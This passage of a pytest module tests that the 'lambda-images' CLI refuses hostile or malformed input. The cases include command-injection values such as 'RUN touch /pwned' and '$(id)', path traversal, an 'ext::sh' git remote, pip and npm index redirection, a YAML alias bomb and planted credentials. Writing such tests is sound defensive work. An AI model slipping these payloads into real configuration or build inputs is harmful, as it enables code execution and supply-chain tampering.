"""Bad input, as an attacker or a clumsy user gives it: each case gets exactly one line on
stderr naming what is wrong and where, the exit code the README documents, no traceback, no
file changed in the folder it ran in, and nothing sent to a registry or pushed to a git remote.

The corpus is the ``CASES`` table below. To add a case, append a ``Case``:

- ``id``: a short name (the test id);
- ``argv``: the command line after ``lambda-images``; ``{registry}`` becomes a listening
  registry stand-in on 127.0.0.1 that counts every request, ``{remote}`` a bare git repository;
- ``code``: the exit code the README's table gives for this kind of error;
- ``says``: text the one line must contain (what is wrong, and the field or option);
- ``matrix``: how to change the repository's runtimes.yaml — ``edit(old, new)`` replaces one
  occurrence, or give the whole file as bytes; ``at`` names text whose line the message must
  point at (``runtimes.yaml:<line>:``);
- ``lock``: a function changing the parsed runtimes.lock.json, or the whole file as bytes;
- ``files``: more files to create (path → bytes), ``env``: environment variables to set;
- ``secret``: text that must appear nowhere in the output;
- ``writes``: files the command must write even so (a ``--report``), as JSON saying
  ``"ok": false``; every other file stays as it was;
- ``reads``: the command may read from the registry (GET, HEAD) before it fails; it never
  writes to it.

Each case runs the CLI in this process (``pipeline.cli.main``), in a temporary folder holding
copies of runtimes.yaml and runtimes.lock.json, with no Docker Engine reachable.
"""

from __future__ import annotations

import copy
import http.server
import json
import os
import subprocess
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from pipeline.cli import main

REPO = Path(__file__).resolve().parents[2]
MATRIX = (REPO / "runtimes.yaml").read_text("utf-8")
LOCK = json.loads((REPO / "runtimes.lock.json").read_text("utf-8"))
SHA = "0" * 64


def edit(old: str, new: str) -> Callable[[str], str]:
    """runtimes.yaml with the first occurrence of ``old`` replaced by ``new``."""

    def apply(text: str) -> str:
        assert old in text, f"{old!r} is not in runtimes.yaml any more: update this case"
        return text.replace(old, new, 1)

    return apply


def set_in(*path: str | int, value: Any) -> Callable[[Any], Any]:
    """The lock with one value replaced (``value`` may be anything JSON can hold)."""

    def apply(data: Any) -> Any:
        node = data
        for part in path[:-1]:
            node = node[part]
        node[path[-1]] = value
        return data

    return apply


@dataclass(frozen=True, kw_only=True)
class Case:
    id: str
    argv: tuple[str, ...]
    code: int
    says: str
    matrix: Callable[[str], str] | bytes | None = None
    at: str | None = None
    lock: Callable[[Any], Any] | bytes | None = None
    files: dict[str, bytes] = field(default_factory=dict)
    env: dict[str, str] = field(default_factory=dict)
    secret: str | None = None
    writes: tuple[str, ...] = ()
    reads: bool = False


RENDER = ("render",)
CONTEXT = ("render", "--contexts", "python3.11.debian12", "--arch", "x86_64")
SDK_ROW = "    sdk: openjdk-17-jre-headless\n"  # java17.debian12 (Python rows: from the lock)
INPUTS_JSON = "out/provided.debian12/x86_64/inputs.json"
CELLS = b'{"include": [{"runtime": "provided.debian12", "arch": "x86_64"}]}'
GOOD_RECORD = {
    "runtime": "provided.debian12",
    "arch": "x86_64",
    "digest": "sha256:" + SHA,
    "parts": {},
    "state": "built",
}


SNAPSHOT_JSON = "out/provided.debian12/x86_64/snapshot.json"
GOOD_SNAPSHOT = {
    "runtime": "provided.debian12",
    "arch": "x86_64",
    "docker_arch": "amd64",
    "image_id": "sha256:" + SHA,
    "layers": [
        {
            "file": f"{SHA}.tar.xz",
            "sha256": SHA,
            "diff_id": "sha256:" + SHA,
            "size": 1,
            "compressed_size": 1,
        }
    ],
    "config": {
        "env": [],
        "entrypoint": ["/lambda-entrypoint.sh"],
        "cmd": None,
        "working_dir": "/var/task",
        "user": "",
        "labels": {},
    },
}
BRANCH = ("branch", "provided.debian12", "--git-remote", "{remote}")


def record(**changes: Any) -> bytes:
    return json.dumps({**GOOD_RECORD, **changes}).encode()


def snapshot(**changes: Any) -> bytes:
    return json.dumps({**GOOD_SNAPSHOT, **changes}).encode()


def matrix_case(id: str, old: str, new: str, says: str, at: str | None = None) -> Case:
    """runtimes.yaml with one edit, refused by `render` with exit 11 on the edited line."""
    changed = [line for line in new.splitlines() if line not in old.splitlines()]
    return Case(id=id, argv=RENDER, code=11, says=says, matrix=edit(old, new), at=at or changed[0])


CASES: list[Case] = [
    # --- runtimes.yaml: values that would reach a Dockerfile or a command line -------------
    matrix_case(
        "keyring-relative",
        "        suite: bookworm\n",
        "        suite: bookworm\n        keyring: keys.gpg\n",
        "rootfs.keyring: 'keys.gpg' is not valid; expected the absolute path of an OpenPGP keyring",
    ),
    matrix_case(
        "name-newline",
        "    name: Python 3.11\n",
        '    name: "Python 3.11\\nRUN touch /pwned"\n',
        "].name: holds the control character U+000A",
        at="RUN touch /pwned",
    ),
    matrix_case(
        "name-quote",
        "    name: Python 3.11\n",
        '    name: Python 3.11" x="y\n',
        "].name: 'Python 3.11\" x=\"y' is not valid; expected printable text",
    ),
    matrix_case(
        "name-line-separator",
        "    name: Python 3.11\n",
        '    name: "Python\\u20283.11"\n',
        "].name: holds the control character U+2028",
        at="Python\\u2028",
    ),
    matrix_case(
        "name-right-to-left-override",
        "    name: Python 3.11\n",
        '    name: "Python \\u202E3.11"\n',
        "].name: holds the invisible formatting character U+202E; expected printable text",
        at="Python \\u202E",
    ),
    matrix_case(
        "name-zero-width-space",
        "    name: Python 3.11\n",
        '    name: "Python\\u200B 3.11"\n',
        "].name: holds the invisible formatting character U+200B",
        at="Python\\u200B",
    ),
    matrix_case(
        "name-byte-order-mark",
        "    name: Python 3.11\n",
        '    name: "\\uFEFFPython 3.11"\n',
        "].name: holds the invisible formatting character U+FEFF",
        at="\\uFEFFPython",
    ),
    matrix_case(
        "name-tab",
        "    name: Python 3.11\n",
        '    name: "Python\\t3.11"\n',
        "].name: holds the control character U+0009",
        at="Python\\t",
    ),
    matrix_case(
        "version-newline",
        '    version: "3.11"\n    tag: 3.11-debian12',
        '    version: "3.11\\nRUN touch /pwned"\n    tag: 3.11-debian12',
        "].version: holds the control character U+000A",
        at="RUN touch /pwned",
    ),
    matrix_case(
        "version-space",
        '    version: "3.11"\n    tag: 3.11-debian12',
        '    version: "3.11 --build-arg x"\n    tag: 3.11-debian12',
        "].version: '3.11 --build-arg x' is not valid; expected a version",
        at="3.11 --build-arg",
    ),
    matrix_case(
        "version-path",
        '    version: "3.11"\n    tag: 3.11-debian12',
        '    version: "../3.11"\n    tag: 3.11-debian12',
        "].version: '../3.11' is not valid; expected a version",
        at="../3.11",
    ),
    matrix_case(
        "tag-colon",
        "    tag: 3.11-debian12\n",
        "    tag: 3.11:latest\n",
        "].tag: '3.11:latest' is not valid; expected a registry tag",
    ),
    matrix_case(
        "apt-newline",
        "      apt: [python3]\n",
        '      apt: ["python3\\nRUN touch /pwned"]\n',
        "].install.apt[0]: holds the control character U+000A",
        at="RUN touch /pwned",
    ),
    matrix_case(
        "apt-shell",
        "      apt: [python3]\n",
        '      apt: ["python3; touch /pwned"]\n',
        "].install.apt[0]: 'python3; touch /pwned' is not valid; expected an OS package name",
    ),
    matrix_case(
        "apt-option",
        "      apt: [python3]\n",
        "      apt: [--allow-unauthenticated]\n",
        "].install.apt[0]: '--allow-unauthenticated' is not valid; expected an OS package name",
    ),
    matrix_case(
        "toolchain-substitution",
        "    toolchain: [g++, make,",
        "    toolchain: [g++, $(id), make,",
        "operating_systems.debian12.toolchain[1]: '$(id)' is not valid",
    ),
    matrix_case(
        "include-comma",
        "        include: [ca-certificates]\n",
        '        include: ["ca-certificates,curl"]\n',
        "rootfs.include[0]: 'ca-certificates,curl' is not valid; expected an OS package name",
    ),
    matrix_case(
        "pip-option",
        "      pip: [awslambdaric==4.2.2, boto3==1.44.18]\n",
        "      pip: [--index-url=http://127.0.0.1:1/simple, boto3==1.44.18]\n",
        "].install.pip[0]: '--index-url=http://127.0.0.1:1/simple' is not valid; "
        "expected a pip requirement",
    ),
    matrix_case(
        "pip-marker",
        "      pip: [awslambdaric==4.2.2, boto3==1.44.18]\n",
        '      pip: ["awslambdaric==4.2.2; os_name == \\"posix\\"", boto3==1.44.18]\n',
        "].install.pip[0]: ",
        at="os_name",
    ),
    matrix_case(
        "pip-newline",
        "      pip: [awslambdaric==4.2.2, boto3==1.44.18]\n",
        '      pip: ["awslambdaric==4.2.2\\n--extra-index-url=http://x/", boto3==1.44.18]\n',
        "].install.pip[0]: holds the control character U+000A",
        at="extra-index-url",
    ),
    matrix_case(
        "npm-option",
        "      npm: [aws-lambda-ric@3.3.0]\n",
        "      npm: [--registry=http://127.0.0.1:1/]\n",
        "].install.npm[0]: '--registry=http://127.0.0.1:1/' is not valid; expected an npm package",
    ),
    matrix_case(
        "npm-set-option",
        '"@aws-sdk/client-accessanalyzer", ',
        '"--registry=http://127.0.0.1:1/", ',
        "npm_sets.aws-sdk-js-v3[0]: '--registry=http://127.0.0.1:1/' is not valid; "
        "expected an npm package",
        at="--registry=",
    ),
    matrix_case(
        "npm-shell",
        "      npm: [aws-lambda-ric@3.3.0]\n",
        '      npm: ["aws-lambda-ric@3.3.0 && touch /pwned"]\n',
        "].install.npm[0]: 'aws-lambda-ric@3.3.0 && touch /pwned' is not valid",
    ),
    matrix_case(
        "environment-space",
        '      DOTNET_NOLOGO: "true"\n',
        '      DOTNET_NOLOGO: "true EVIL=1"\n',
        "families.dotnet.environment.DOTNET_NOLOGO: 'true EVIL=1' is not valid; "
        "expected an environment value",
    ),
    matrix_case(
        "environment-newline",
        '      DOTNET_NOLOGO: "true"\n',
        '      DOTNET_NOLOGO: "true\\nRUN touch /pwned"\n',
        "families.dotnet.environment.DOTNET_NOLOGO: holds the control character U+000A",
        at="RUN touch /pwned",
    ),
    matrix_case(
        "environment-substitution",
        '      DOTNET_NOLOGO: "true"\n',
        '      DOTNET_NOLOGO: "$(id)"\n',
        "families.dotnet.environment.DOTNET_NOLOGO: '$(id)' is not valid",
    ),
    matrix_case(
        "environment-name",
        '      DOTNET_NOLOGO: "true"\n',
        '      "DOTNET_NOLOGO X": "true"\n',
        "families.dotnet.environment.DOTNET_NOLOGO X: 'DOTNET_NOLOGO X' is not valid; "
        "expected an environment variable name",
    ),
    matrix_case(
        "compile-shell",
        "    unpack: {strip: 1, compile: [--enable-shared, --with-ensurepip=install]}\n",
        '    unpack: {strip: 1, compile: ["--enable-shared;touch /pwned"]}\n',
        ".unpack.compile[0]: '--enable-shared;touch /pwned' is not valid; expected a configure",
        at="--enable-shared;touch",
    ),
    matrix_case(
        "compile-not-a-flag",
        "    unpack: {strip: 1, compile: [--enable-shared, --with-ensurepip=install]}\n",
        "    unpack: {strip: 1, compile: [CFLAGS=-O0]}\n",
        ".unpack.compile[0]: 'CFLAGS=-O0' is not valid; expected a configure flag",
    ),
    matrix_case(
        "url-shell",
        "nodejs.org/dist/v22.12.0/node-v22.12.0-linux-x64.tar.xz\n",
        "nodejs.org/dist/v22.12.0/node;touch${IFS}pwned;#\n",
        "inputs.node-22.urls.x86_64: ",
        at="node;touch",
    ),
    matrix_case(
        "url-query",
        "nodejs.org/dist/v22.12.0/node-v22.12.0-linux-x64.tar.xz\n",
        "nodejs.org/dist/v22.12.0/node-v22.12.0-linux-x64.tar.xz?x=1\n",
        "inputs.node-22.urls.x86_64: ",
        at="tar.xz?x=1",
    ),
    matrix_case(
        "url-dash-file",
        "nodejs.org/dist/v22.12.0/node-v22.12.0-linux-x64.tar.xz\n",
        "nodejs.org/dist/v22.12.0/-rf\n",
        "expected an http(s) URL whose path ends in a file name",
        at="v22.12.0/-rf",
    ),
    matrix_case(
        "url-dot-dot",
        "nodejs.org/dist/v22.12.0/node-v22.12.0-linux-x64.tar.xz\n",
        "nodejs.org/dist/v22.12.0/..\n",
        "inputs.node-22.urls.x86_64: ",
        at="v22.12.0/..",
    ),
    matrix_case(
        "url-not-http",
        "    url: https://repo1.maven.org/maven2/com/amazonaws/aws-lambda-java-core/",
        "    url: file:///etc/aws-lambda-java-core/",
        "inputs.java-core.url: ",
    ),
    matrix_case(
        "install-as-parent",
        "    install_as: aws-lambda-rie\n",
        '    install_as: ".."\n',
        "inputs.rie.install_as: '..' is not valid; expected a file name",
    ),
    matrix_case(
        "install-as-option",
        "    install_as: aws-lambda-rie\n",
        "    install_as: -rf\n",
        "inputs.rie.install_as: '-rf' is not valid; expected a file name",
    ),
    matrix_case(
        "input-version-space",
        "    version: v0.0.0-20261030222936-bef5c4ba774d\n",
        '    version: "v0.0.0 x"\n',
        "inputs.rie.version: 'v0.0.0 x' is not valid; expected a version",
        at="v0.0.0 x",
    ),
    matrix_case(
        "destination-parent",
        "    destinations: {language: /var/lang, ric: /var/runtime/lib}\n",
        "    destinations: {language: /var/lang, ric: /var/../etc}\n",
        "families.java.destinations.ric: '/var/../etc' is not valid; expected an absolute path",
    ),
    matrix_case(
        "suite-option",
        "        suite: bookworm\n",
        '        suite: "--hook-dir=/tmp"\n',
        "rootfs.suite: '--hook-dir=/tmp' is not valid; expected a Debian suite",
    ),
    matrix_case(
        "mirror-space",
        "        mirror: http://deb.debian.org/debian\n",
        '        mirror: "http://deb.debian.org/debian --include=x"\n',
        "rootfs.mirror: 'http://deb.debian.org/debian --include=x' is not valid",
    ),
    matrix_case(
        "os-name-backtick",
        "    name: Debian 12\n",
        "    name: Debian `id`\n",
        "operating_systems.debian12.name: 'Debian `id`' is not valid",
    ),
    matrix_case(
        "family-sdk-dollar",
        "    sdk: AWS SDK for Python\n",
        "    sdk: AWS SDK for $HOME\n",
        "families.python.sdk: 'AWS SDK for $HOME' is not valid",
    ),
    matrix_case(
        "runtime-sdk-backslash",
        SDK_ROW,
        SDK_ROW.replace("headless", "headless\\\\"),
        "].sdk: ",
        at="openjdk-17-jre-headless\\",
    ),
    matrix_case(
        "runtime-id-dot-dot",
        "  - id: python3.11.debian12\n",
        "  - id: python3..debian12\n",
        "].id: 'python3..debian12' is not valid; expected a lowercase identifier",
    ),
    matrix_case(
        "runtime-id-lock",
        "  - id: python3.11.debian12\n",
        "  - id: python3.lock\n",
        "].id: 'python3.lock' is not valid; expected a lowercase identifier",
    ),
    matrix_case(
        "key-control",
        '    family: python\n    version: "3.11"\n    tag: 3.11-debian12',
        '    family: python\n    "ver\\u0007sion": "3.11"\n    tag: 3.11-debian12',
        "holds the control character U+0007",
        at="ver\\u0007sion",
    ),
    matrix_case(
        "base-reference-newline",
        '      image: {reference: "public.ecr.aws/amazonlinux/amazonlinux:2"}\n',
        '      image: {reference: "public.ecr.aws/amazonlinux/amazonlinux:2\\nRUN x"}\n',
        "operating_systems.al2.base.image.reference: holds the control character U+000A",
        at="amazonlinux:2\\nRUN",
    ),
    matrix_case(
        "runtime-id-too-long",  # it names out/<id>/: refused before anything is written
        "  - id: python3.11.debian12\n",
        f"  - id: python{'3' * 300}.debian12\n",
        "].id: 'python333",
        at="python333",
    ),
    # --- runtimes.yaml: not a YAML document a person meant --------------------------------
    Case(
        id="matrix-nul-byte",
        argv=RENDER,
        code=11,
        says="runtimes.yaml:3: not valid YAML: character U+0000 is not allowed",
        matrix=b"# a matrix\noperating_systems: {}\nfamilies: \x00\n",
    ),
    Case(
        id="matrix-latin-1",
        argv=RENDER,
        code=11,
        says="runtimes.yaml:2: not UTF-8 (byte 0xe9); expected a UTF-8 text file",
        matrix=b"# a matrix\n# caf\xe9\noperating_systems: {}\n",
    ),
    Case(
        id="matrix-alias-bomb",
        argv=RENDER,
        code=11,
        says="more than 50000 values once aliases are expanded",
        matrix=(
            "a: &a [x, x, x, x, x, x, x, x, x]\n"
            + "".join(
                f"{n}: &{n} [{', '.join([f'*{p}'] * 9)}]\n"
                for p, n in zip("abcde", "bcdef", strict=True)  # 45 aliases, 9**6 values
            )
        ).encode(),
    ),
    Case(
        id="matrix-many-aliases",
        argv=RENDER,
        code=11,
        says="runtimes.yaml: line 2: more than 50 YAML aliases (*name)",
        matrix=b"a: &a 1\nb: [" + b", ".join([b"*a"] * 51) + b"]\n",
    ),
    Case(
        id="matrix-recursive-alias",
        argv=RENDER,
        code=11,
        says="runtimes.yaml",
        matrix=b"a: &a [*a]\n",
    ),
    # --- runtimes.lock.json -----------------------------------------------------------------
    Case(
        id="lock-a-list",
        argv=CONTEXT,
        code=11,
        says="runtimes.lock.json: (top level): expected object, got array",
        lock=b"[]\n",
    ),
    Case(
        id="lock-inputs-a-list",
        argv=CONTEXT,
        code=11,
        says="runtimes.lock.json: inputs: expected object, got array",
        lock=set_in("inputs", value=[]),
    ),
    Case(
        id="lock-pip-without-filename",
        argv=CONTEXT,
        code=11,
        says="pip.python3.11.debian12.x86_64[0]: missing required field 'filename'",
        lock=set_in("pip", "python3.11.debian12", "x86_64", 0, value={"sha256": SHA}),
    ),
    Case(
        id="lock-pip-filename-newline",
        argv=CONTEXT,
        code=11,
        says="pip.python3.11.debian12.x86_64[0].filename: ",
        lock=set_in(
            "pip",
            "python3.11.debian12",
            "x86_64",
            0,
            value={"filename": "x-1.whl\n--index-url http://x/", "sha256": SHA},
        ),
    ),
    Case(
        id="lock-npm-without-url",
        argv=CONTEXT,
        code=11,
        says="npm.nodejs18.x.debian12[0]: missing required field 'url'",
        lock=set_in(
            "npm", "nodejs18.x.debian12", 0, value={"path": "node_modules/a", "sha256": SHA}
        ),
    ),
    Case(
        id="lock-npm-path-escapes",
        argv=("render", "--contexts", "nodejs18.x.debian12", "--arch", "x86_64"),
        code=11,
        says="[0].path: '../../../../../escaped_npm' is not valid; expected node_modules/",
        lock=set_in("npm", "nodejs18.x.debian12", 0, "path", value="../../../../../escaped_npm"),
    ),
    Case(
        id="lock-npm-sha256-null",  # Node.js 18 is past its end of life: named on purpose
        argv=(
            "render",
            "--contexts",
            "nodejs18.x.debian12",
            "--arch",
            "x86_64",
            "--include-deprecated",
        ),
        code=3,
        says="npm.nodejs18.x.debian12[0]) is unlocked in runtimes.lock.json: its sha256 is null",
        lock=set_in("npm", "nodejs18.x.debian12", 0, "sha256", value=None),
    ),
    Case(
        id="lock-npm-sha256-empty",
        argv=("render", "--contexts", "nodejs18.x.debian12", "--arch", "x86_64"),
        code=11,
        says="npm.nodejs18.x.debian12[0].sha256: '' is not valid; expected 64 lowercase hex digits",
        lock=set_in("npm", "nodejs18.x.debian12", 0, "sha256", value=""),
    ),
    Case(
        id="lock-pip-unlocked",
        argv=CONTEXT,
        code=3,
        says="python3.11.debian12/x86_64: its Python packages are unlocked in runtimes.lock.json",
        lock=set_in("pip", "python3.11.debian12", value={}),
    ),
    Case(
        id="lock-input-unlocked",
        argv=("render", "--contexts", "nodejs22.x", "--arch", "x86_64"),
        code=3,
        says="input 'node-22' (node-v22.12.0-linux-x64.tar.xz) is unlocked",
    ),
    # A pattern checks a whole value: "$" is the end of it, never "before a final newline".
    Case(
        id="lock-sha256-trailing-newline",
        argv=CONTEXT,
        code=11,
        says="inputs.rie.x86_64: '" + SHA + "\\n' is not valid; expected 64 lowercase hex",
        lock=set_in("inputs", "rie", "x86_64", value=SHA + "\n"),
    ),
    Case(
        id="lock-pip-filename-trailing-newline",
        argv=CONTEXT,
        code=11,
        says="pip.python3.11.debian12.x86_64[0].filename: 'x-1.0-py3-none-any.whl\\n' is not",
        lock=set_in(
            "pip",
            "python3.11.debian12",
            "x86_64",
            0,
            value={"filename": "x-1.0-py3-none-any.whl\n", "sha256": SHA},
        ),
    ),
    Case(
        id="lock-input-not-hex",
        argv=CONTEXT,
        code=11,
        says="inputs.rie.x86_64: 'abc' is not valid; expected 64 lowercase hex digits (or null",
        lock=set_in("inputs", "rie", "x86_64", value="abc"),
    ),
    Case(
        id="lock-base-not-a-digest",
        argv=CONTEXT,
        code=11,
        says="bases.al2.x86_64: 'latest' is not valid; expected sha256: and 64 lowercase hex",
        lock=set_in("bases", "al2", "x86_64", value="latest"),
    ),
    Case(
        id="lock-unknown-key",
        argv=CONTEXT,
        code=11,
        says="runtimes.lock.json: pins: unknown key 'pins'; expected one of: version, bases, pip",
        lock=set_in("pins", value={}),
    ),
    Case(
        id="lock-newer-version",
        argv=CONTEXT,
        code=11,
        says="runtimes.lock.json: version: 2 is not supported; expected 1",
        lock=set_in("version", value=2),
    ),
    Case(
        id="lock-digest-trailing-newline",
        argv=CONTEXT,
        code=11,
        says="bases.al2.x86_64: 'sha256:" + SHA + "\\n' is not valid; expected sha256:",
        lock=set_in("bases", "al2", "x86_64", value="sha256:" + SHA + "\n"),
    ),
    Case(
        id="lock-number-5000-digits",
        argv=CONTEXT,
        code=11,
        says="runtimes.lock.json: holds a number too long to read",
        lock=b'{"version": ' + b"1" * 5000 + b"}\n",
    ),
    Case(
        id="lock-not-json",
        argv=CONTEXT,
        code=11,
        says="runtimes.lock.json:2: not valid JSON",
        lock=b'{\n  "pip": nope\n}\n',
    ),
    Case(
        id="lock-not-utf-8",
        argv=CONTEXT,
        code=11,
        says="runtimes.lock.json:1: not UTF-8 (byte 0xff); expected JSON",
        lock=b'{"version": 1, "bases": {"\xff": {}}}\n',
    ),
    # --- the command line -------------------------------------------------------------------
    Case(
        id="registry-space",
        argv=("publish", "--registry", "exa mple.com/ns"),
        code=2,
        says="--registry 'exa mple.com/ns': 'exa mple.com' is not a host name",
    ),
    Case(
        id="registry-port",
        argv=("publish", "--registry", "127.0.0.1:99999/ns"),
        code=2,
        says="'127.0.0.1:99999' is not a host name with an optional port (1-65535)",
    ),
    Case(
        id="registry-no-namespace",
        argv=("publish", "--registry", "public.ecr.aws"),
        code=2,
        says="--registry 'public.ecr.aws': expected REGISTRY/NAMESPACE",
    ),
    Case(
        id="registry-uppercase",
        argv=("publish", "--registry", "{registry}/Lambda"),
        code=2,
        says="expected REGISTRY/NAMESPACE with a lower-case namespace",
    ),
    Case(
        id="registry-ftp",
        argv=("publish", "--registry", "ftp://{registry}/lambda"),
        code=2,
        says="scheme must be http or https",
    ),
    Case(
        id="registry-credentials",
        argv=("publish", "--registry", "tester:hunter2-planted@{registry}/lambda"),
        code=2,
        says="--registry: credentials do not belong in the registry name",
        secret="hunter2-planted",
    ),
    Case(
        id="registry-newline",
        argv=("rebuild", "provided.debian12", "--push", "--registry", "{registry}/lambda\nx"),
        code=2,
        says="--registry ",
    ),
    Case(
        id="outdated-registry-credentials",
        argv=("outdated", "--registry", "tester:hunter2-planted@{registry}/lambda"),
        code=2,
        says="--registry: credentials do not belong in the registry name",
        secret="hunter2-planted",
    ),
    Case(
        id="refresh-without-registry",
        argv=("refresh", "provided.debian12"),
        code=2,
        says="Missing option '--registry'",
    ),
    Case(
        id="refresh-remote-credentials",
        argv=(
            "refresh",
            "--registry",
            "{registry}/lambda",
            "--git-remote",
            "https://x:hunter2-planted@example.invalid/r.git",
        ),
        code=2,
        secret="hunter2-planted",
        says="credentials",
    ),
    Case(
        id="refresh-remote-token-in-query",
        argv=(
            "refresh",
            "--registry",
            "{registry}/lambda",
            "--git-remote",
            "https://example.invalid/r.git?access_token=hunter2-planted",
        ),
        code=2,
        secret="hunter2-planted",
        says="--git-remote https://example.invalid/r.git?***: credentials in the URL are refused",
    ),
    Case(
        id="branch-remote-ext",
        argv=("branch", "provided.debian12", "--git-remote", "ext::sh -c touch% pwned"),
        code=2,
        says="remote helpers (<transport>::<address>, such as ext::) are refused",
    ),
    Case(
        id="refresh-report-when-the-check-fails",  # the report says why, however it ends
        argv=("refresh", "--registry", "{registry}/lambda", "--report", "refresh.json"),
        code=7,
        says="GET /v2/ answered HTTP 401",
        writes=("refresh.json",),
        reads=True,
    ),
    Case(
        id="publish-report-when-credentials-fail",
        argv=("publish", "--registry", "{registry}/lambda", "--report", "publish.json"),
        code=7,
        says="docker-config/config.json: cannot read the Docker config (JSONDecodeError)",
        files={"docker-config/config.json": b'{"auths": '},
        writes=("publish.json",),
    ),
    Case(
        id="matrix-dev-zero",  # endless: only so much is read
        argv=("--matrix", "/dev/zero", "list"),
        code=11,
        says="/dev/zero: larger than 8 MiB; expected a runtime matrix",
    ),
    Case(
        id="refresh-report-a-folder",
        argv=("refresh", "--registry", "{registry}/lambda", "--report", "."),
        code=2,
        says="'--report': File '.' is a directory",
    ),
    Case(
        id="report-under-a-file",
        argv=("publish", "--registry", "{registry}/lambda", "--report", "runtimes.yaml/r.json"),
        code=2,
        says="--report runtimes.yaml/r.json: runtimes.yaml is a file, not a folder",
    ),
    Case(
        id="report-a-folder",
        argv=("publish", "--registry", "{registry}/lambda", "--report", "templates"),
        code=2,
        says="--report",
        files={"templates/keep": b""},
    ),
    Case(
        id="work-under-a-file",
        argv=("--work", "runtimes.yaml/out", "render", "--contexts", "provided.debian12"),
        code=2,
        says="--work runtimes.yaml/out: runtimes.yaml is a file, not a folder",
    ),
    Case(
        id="out-a-file",
        argv=("build", "provided.debian12", "--out", "runtimes.yaml"),
        code=2,
        says="'--out': Directory 'runtimes.yaml' is a file",
    ),
    Case(
        id="serve-port",
        argv=("serve", "lambda-images/provided.debian12:x86_64", "--port", "70000"),
        code=2,
        says="Invalid value for '--port': 70000 is not in the range 0<=x<=65535",
    ),
    Case(
        id="unknown-architecture",
        argv=("build", "provided.debian12", "--arch", "arm65"),
        code=2,
        says="Invalid value for '--arch': 'arm65' is not one of 'x86_64', 'arm64'",
    ),
    Case(
        id="unknown-command",
        argv=("publsh",),
        code=2,
        says="No such command 'publsh'",
    ),
    Case(
        id="unknown-option",
        argv=("render", "--chek"),
        code=2,
        says="No such option '--chek'",
    ),
    Case(
        id="unknown-runtime",
        argv=("build", "python3.11.debian13"),
        code=2,
        says="unknown runtime 'python3.11.debian13'",
    ),
    Case(
        id="impossible-today",
        argv=("--today", "2024-02-30", "list"),
        code=2,
        says="Invalid value for '--today'",
    ),
    Case(
        id="runtimes-without-contexts",
        argv=("render", "provided.debian12"),
        code=2,
        says="runtimes and --arch only go with --contexts",
    ),
    Case(
        id="push-without-registry",
        argv=("rebuild", "provided.debian12", "--push"),
        code=2,
        says="--push needs --registry",
    ),
    Case(
        id="cells-missing",
        argv=("plan", "--cells", "cells.json", "out"),
        code=2,
        says="Invalid value for '--cells'",
    ),
    # --- the environment --------------------------------------------------------------------
    Case(
        id="epoch-not-a-number",
        argv=RENDER,
        code=11,
        says="SOURCE_DATE_EPOCH='yesterday': expected a non-negative integer",
        env={"SOURCE_DATE_EPOCH": "yesterday"},
    ),
    Case(
        id="epoch-other-digits",
        argv=RENDER,
        code=11,
        says="SOURCE_DATE_EPOCH=",
        env={"SOURCE_DATE_EPOCH": "\u0661\u0662"},
    ),
    Case(
        id="release-time-superscript",  # str.isdigit() says yes, int() says no
        argv=RENDER,
        code=11,
        says="LAMBDA_IMAGES_RELEASE_TIME='²': expected a non-negative integer",
        env={"LAMBDA_IMAGES_RELEASE_TIME": "\u00b2"},
    ),
    Case(
        id="release-time-other-digits",  # int() reads Arabic-Indic digits: not a release time
        argv=RENDER,
        code=11,
        says="LAMBDA_IMAGES_RELEASE_TIME='\u0661\u0662': expected a non-negative integer",
        env={"LAMBDA_IMAGES_RELEASE_TIME": "\u0661\u0662"},
    ),
    Case(
        id="namespace-newline",
        argv=RENDER,
        code=11,
        says="LAMBDA_IMAGES_NAMESPACE='lambda\\nRUN x': expected lowercase letters and digits",
        env={"LAMBDA_IMAGES_NAMESPACE": "lambda\nRUN x"},
    ),
    Case(
        id="source-label-newline",
        argv=RENDER,
        code=11,
        says="LAMBDA_IMAGES_REVISION=",
        env={"LAMBDA_IMAGES_REVISION": "abc\nLABEL x=y"},
    ),
    Case(
        id="builder-unknown",
        argv=RENDER,
        code=11,
        says="LAMBDA_IMAGES_BUILDER='kaniko': expected 'buildkit' or 'classic'",
        env={"LAMBDA_IMAGES_BUILDER": "kaniko"},
    ),
    Case(
        id="docker-host-malformed",
        argv=("invoke", "lambda-images/provided.debian12:x86_64"),
        code=11,
        says="DOCKER_HOST='tcp://[::1': not a Docker Engine address (Invalid IPv6 URL)",
        env={"DOCKER_HOST": "tcp://[::1"},
    ),
    # --- events -----------------------------------------------------------------------------
    Case(
        id="event-not-utf-8",
        argv=("invoke", "lambda-images/provided.debian12:x86_64", "--event", "@event.json"),
        code=2,
        says="--event @event.json: not UTF-8 (byte 0xff at offset 9)",
        files={"event.json": b'{"key": "\xff"}'},
    ),
    Case(
        id="event-not-json",
        argv=("invoke", "lambda-images/provided.debian12:x86_64", "--event", "{'key': 1}"),
        code=2,
        says="--event: not JSON",
    ),
    Case(
        id="event-file-missing",
        argv=("invoke", "lambda-images/provided.debian12:x86_64", "--event", "@nothing.json"),
        code=2,
        says="--event @nothing.json: cannot read nothing.json",
    ),
    Case(
        id="event-file-not-json",
        argv=("invoke", "lambda-images/provided.debian12:x86_64", "--event", "@event.json"),
        code=2,
        says="event.json: not JSON",
        files={"event.json": b"key=value\n"},
    ),
    Case(
        id="event-nested-too-deeply",
        argv=("invoke", "lambda-images/provided.debian12:x86_64", "--event", "@deep.json"),
        code=2,
        says="deep.json: JSON nested too deeply to be read",
        files={"deep.json": b"[" * 100_000 + b"]" * 100_000},
    ),
    Case(
        id="event-endless-file",
        argv=("invoke", "lambda-images/provided.debian12:x86_64", "--event", "@/dev/zero"),
        code=2,
        says="/dev/zero: larger than 6291456 bytes, Lambda's limit for an event",
    ),
    Case(
        id="event-at-nothing",
        argv=("invoke", "lambda-images/provided.debian12:x86_64", "--event", "@"),
        code=2,
        says="--event @: expected @FILE",
    ),
    Case(
        id="env-file-endless",
        argv=("invoke", "lambda-images/provided.debian12:x86_64", "--env-file", "/dev/zero"),
        code=2,
        says="--env-file /dev/zero: larger than 1024 KiB; a function's variables total at most",
    ),
    Case(
        id="env-key-trailing-newline",
        argv=("invoke", "lambda-images/provided.debian12:x86_64", "--env", "KEY\n=v"),
        code=2,
        says="is not a variable name Lambda accepts",
    ),
    Case(
        id="function-name-trailing-newline",
        argv=("invoke", "x:y", "--function-name", "orders\n"),
        code=2,
        says="--function-name 'orders\\n': Lambda's function names are 1 to 64",
    ),
    # --- plan: the cells of a run and the records cells hand on -----------------------------
    Case(
        id="cells-not-json",
